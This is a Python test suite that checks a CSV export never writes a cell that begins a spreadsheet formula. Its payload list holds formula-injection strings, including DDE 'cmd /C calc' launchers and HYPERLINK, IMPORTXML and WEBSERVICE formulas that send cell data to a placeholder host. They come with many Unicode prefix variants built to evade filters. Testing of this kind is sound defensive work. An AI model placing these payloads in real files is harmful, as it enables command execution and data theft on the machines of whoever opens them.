from __future__ import annotations

import csv
import io
import re
import unicodedata

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from share.invented_findings import KEY, campaign, trend
from tocsin.share import campaigns_table, edges_csv_as_given, findings_csv, is_formula, neutralised_cell, trends_csv

_COMMANDS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://harbour.invalid/?x="&A1,"open")',
    '=IMPORTXML(CONCAT("http://harbour.invalid/?v=",A1),"//a")',
    '=WEBSERVICE("http://harbour.invalid/")',
    '=IMAGE("http://harbour.invalid/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+44 20 7946 0000",
    "--1",
    "=",
    "+",
    "-",
    "@",
    "=\u202e1+1",
)
_BEFORE = (
    "",
    "\t",
    "\r",
    "\n",
    " ",
    "\u00a0",
    '"',
    "'",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x00",
    ",",
    ";",
    "\u3000",
    "\u201c",
)
_VARIANTS = (
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\ufe661+1", "\ufe621+1", "\ufe631+1", "\ufe6bSUM(A1)"),
    *("\u22121+1", "\u207a1+1", "\u207b1+1", "\u207c1+1", "\u208a1+1", "\u208b1+1", "\u208c1+1"),
    *("\u2800=1+1", "\u3164=1+1", "\u2028=1+1", "\x85=1+1", "\U000e0041=1+1", "\tsafe", "\rsafe", "\nsafe"),
    *(" \t \"' =1+1", "\u200e\u200f=1+1", "''=1+1", '""=1+1', "|=1+1", "\u00b4=1+1", "\ufe0f=1+1"),
)
PAYLOADS = tuple(dict.fromkeys((*(before + command for before in _BEFORE for command in _COMMANDS), *_VARIANTS)))


def dangerous(cell: str) -> bool:
    """Written apart from the code under test: does the first visible character, however written, start a formula?"""
    if cell[:1] in "\t\r\n" and cell:
        return True
    seen = unicodedata.normalize("NFKC", cell)
    for char in seen:
        if (
            char.isspace()
            or unicodedata.category(char) in ("Cf", "Cc", "Zs")
            or char in "\"',;|\u00b4\u2018\u201c\u201d`"
        ):
            # A leading apostrophe is the neutralising mark itself: a spreadsheet shows the rest as text.
            if char == "'" and seen.startswith("'"):
                return False
            continue
        return char in "=+-@\u2212"
    return False


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 300
    assert sum(map(dangerous, PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_an_export_starts_a_formula(payload: str) -> None:
    for text in (
        findings_csv(campaigns_table([campaign(payload, payload, payload)]), KEY),
        trends_csv([trend(payload, payload, payload)]),
        edges_csv_as_given(pa.table({"a": [payload], "b": [payload], "weight": [2]})),
    ):
        header, row = read(text)
        assert len(header) == len(row)
        assert [cell for cell in row if dangerous(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_semicolon_reader_finds_no_formula_either(payload: str) -> None:
    line = edges_csv_as_given(pa.table({"a": ["x;" + payload], "b": ["y"], "weight": [2]})).split("\r\n")[1]
    assert not any(dangerous(cell) for row in csv.reader([line], delimiter=";") for cell in row)


@pytest.mark.parametrize("number", ["0", "-5", "+7", "3.25", "-1e-9", "-0.5E+3"])
def test_a_number_stays_a_number(number: str) -> None:
    assert neutralised_cell(number) == number


@pytest.mark.parametrize(
    "text",
    [
        "a = b",
        "roadtovelmora",
        "القنديل الرمادي",
        "مَرحبًا",
        "ፋኖስ ግራጫ",
        "la Lanterne grise",
        "نامه\u200cها",
        "[handle]",
        "1. x",
    ],
)
def test_ordinary_text_is_unharmed(text: str) -> None:
    assert neutralised_cell(text) == text


def test_negative_numbers_of_findings_are_written_as_numbers() -> None:
    table = pa.table({"expected_count": [-0.5], "lag_s": pa.array([-3600], pa.int64())})
    assert findings_csv(table, KEY) == '"expected_count","lag_s"\r\n-0.5,-3600\r\n'


@given(st.text(max_size=40))
def test_whatever_the_text_the_cell_is_one_line_and_no_formula(text: str) -> None:
    cell = neutralised_cell(text)
    is_number = re.fullmatch(r"[+-]?\d{1,15}(\.\d{1,15})?([eE][+-]?\d{1,3})?", cell, re.ASCII) is not None
    assert is_number or not dangerous(cell)
    assert len(cell.splitlines()) <= 1
    assert is_number or cell.startswith("'") or not is_formula(cell)
